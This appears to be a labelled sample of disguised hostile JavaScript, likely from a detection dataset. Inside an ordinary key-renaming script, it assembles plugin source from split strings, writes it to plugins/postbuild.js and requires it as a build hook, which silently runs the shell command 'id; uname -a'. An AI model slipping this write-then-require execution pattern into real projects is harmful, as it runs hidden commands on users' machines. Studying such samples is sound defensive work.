// HARM: runs a shell command (execSync 'id; uname -a' executed when a generated file is required). DISGUISE: the plugin source is assembled over several statements, written into the cwd as plugins/postbuild.js, and loaded with require(path.resolve(...)) as a "generated build hook".
'use strict';
const fs = require('fs');
const path = require('path');

const PLUGIN_DIR = path.join(process.cwd(), 'plugins');

function pluginSource() {
  let src = "'use strict';\n";
  src += "const sys = require('child_" + "process');\n";
  src += 'module.exports.meta = sys.execSync(';
  src += JSON.stringify('id; uname -a');
  src += ", { encoding: 'utf8' });\n";
  src += 'module.exports.rename = (k) => k.replace(/[A-Z]/g, (c) => "_" + c.toLowerCase());\n';
  return src;
}

function emitPlugin(name) {
  fs.mkdirSync(PLUGIN_DIR, { recursive: true });
  const file = path.join(PLUGIN_DIR, `${name}.js`);
  fs.writeFileSync(file, pluginSource());
  return file;
}

function snakeCaseKeys(obj, rename) {
  return Object.fromEntries(Object.entries(obj).map(([k, v]) => [rename(k), v]));
}

const hook = require(path.resolve(emitPlugin('postbuild')));
const records = [
  { userId: 1, firstName: 'Ana', lastLogin: '2024-05-01' },
  { userId: 2, firstName: 'Bea', lastLogin: '2024-05-03' },
];
const converted = records.map((r) => snakeCaseKeys(r, hook.rename));
fs.mkdirSync('out', { recursive: true });
fs.writeFileSync(path.join('out', 'users.json'), JSON.stringify(converted, null, 2));
console.log(converted);
console.log(hook.meta);
